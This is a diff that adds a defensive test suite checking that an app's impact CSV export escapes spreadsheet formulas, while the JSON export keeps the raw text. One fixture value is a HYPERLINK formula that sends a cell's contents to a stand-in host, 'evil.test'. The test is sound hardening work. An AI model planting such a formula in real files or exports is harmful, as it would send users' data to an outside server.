@@ -352,3 +352,63 @@ describeEachDatabase('impact without reports', (database) => {
     assert.equal((await app.inject('/impact/iati.xml')).statusCode, 404);
   });
 });
+
+describeEachDatabase('impact downloads with hostile text', (database) => {
+  let app: FastifyInstance;
+  const formula = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
+
+  before(async () => {
+    const { db } = database();
+    await createTestLabels(db);
+    await createContentItem(db, {
+      type: 'report',
+      title: 'Nepal 2021 in numbers',
+      html: '<p>Results.</p>',
+      status: 'published',
+      publishedAt: '2022-02-03T06:00:00Z',
+      fields: {
+        country: 'nepal',
+        year: 2021,
+        indicators: [
+          { component: '+Health', indicator: formula, count: 12, womenShare: 50 },
+          { component: '@Skills', indicator: '-1+2', count: 3 },
+          { component: 'Health', indicator: 'Clinics, = not a formula here', count: 4 },
+        ],
+      },
+    });
+    app = await buildTestApp(database());
+  });
+  after(async () => {
+    await app.close();
+  });
+
+  it('hardening 11: the CSV gives formulas as text and saves as impact.csv; JSON keeps them', async () => {
+    for (const attempt of ['miss', 'hit']) {
+      const response = await app.inject('/impact.csv');
+      assert.equal(response.statusCode, 200);
+      assert.equal(response.headers['x-cache'], attempt);
+      assert.equal(response.headers['content-disposition'], 'attachment; filename="impact.csv"');
+      const rows = parseCsv(response.body, { columns: true }) as Record<string, string>[];
+      assert.deepEqual(
+        rows.map((row) => [row.component, row.indicator, row.count, row.women_share]),
+        [
+          ['Health', 'Clinics, = not a formula here', '4', ''],
+          ["'+Health", `'${formula}`, '12', '50'],
+          ["'@Skills", "'-1+2", '3', ''],
+        ],
+      );
+    }
+    const json = await app.inject('/impact.json');
+    assert.equal(json.headers['content-disposition'], 'inline; filename="impact.json"');
+    assert.deepEqual(
+      json.json().indicators.map((row: Record<string, unknown>) => [row.component, row.indicator]),
+      [
+        ['Health', 'Clinics, = not a formula here'],
+        ['+Health', formula],
+        ['@Skills', '-1+2'],
+      ],
+    );
+    const xml = await app.inject('/impact/iati.xml');
+    assert.equal(xml.headers['content-disposition'], 'inline; filename="iati-activities.xml"');
+  });
+});
